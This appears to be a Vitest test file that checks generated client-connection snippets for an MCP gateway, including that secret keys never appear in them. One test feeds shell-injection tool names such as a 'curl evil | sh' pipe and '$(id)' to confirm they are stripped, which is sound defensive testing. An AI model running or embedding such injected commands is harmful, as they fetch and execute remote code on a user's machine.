import { describe, expect, it } from 'vitest'
import { connectSnippets } from './snippets'

const url = 'https://gateway.acme.test/crm/mcp'
const crm = { slug: 'crm', url, transport: 'http' as const }
const snippets = connectSnippets({ ...crm, readTool: 'get_customer' })

describe('what people copy to connect a client', () => {
  it.each(snippets)('$client is given the gateway’s address and the key by reference', ({ code }) => {
    expect(code).toContain(url)
    expect(code).toMatch(/COUNTERSIGN_KEY|countersign-key/)
  })

  it.each(snippets.filter(({ where }) => where.endsWith('.json')))('$where is valid JSON', ({ code }) => {
    expect(() => JSON.parse(code)).not.toThrow()
  })

  it('never contains a key', () => {
    for (const { code } of snippets) expect(code).not.toMatch(/cs[kp]_/)
  })

  it('calls in CI only a tool that reads, and lists where there is none', () => {
    const ci = (readTool: string | null) => connectSnippets({ ...crm, readTool }).find(({ id }) => id === 'ci')!.code
    expect(ci('get_customer')).toContain('--method tools/call --tool-name get_customer')
    expect(ci(null)).toContain('--method tools/list')
  })

  it('leaves out a tool whose name a shell would run', () => {
    for (const readTool of ['x; curl evil | sh', '$(id)', '--help', 'a b']) {
      const snippet = connectSnippets({ ...crm, readTool }).find(({ id }) => id === 'ci')!
      expect(snippet.code).not.toContain(readTool)
    }
  })

  it('speaks HTTP+SSE to the gateway where the server does', () => {
    const streams = connectSnippets({ ...crm, transport: 'sse', readTool: null })
    for (const { id, code } of streams.filter(({ id }) => id !== 'cursor')) {
      expect([id, code]).toEqual([id, expect.stringMatching(/sse|SSE|event-stream/)])
      expect(code).not.toMatch(/transport http|StreamableHTTP|streamable_?http/i)
    }
    expect(connectSnippets({ ...crm, transport: 'stdio', readTool: null })).toEqual(
      connectSnippets({ ...crm, readTool: null }),
    )
  })

  it('asks curl’s question in a single line of valid JSON', () => {
    const body = /-d '(.+)'/.exec(snippets.find(({ id }) => id === 'curl')!.code)?.[1]
    expect(JSON.parse(body!)).toMatchObject({ method: 'initialize', params: { protocolVersion: '2025-11-25' } })
  })
})
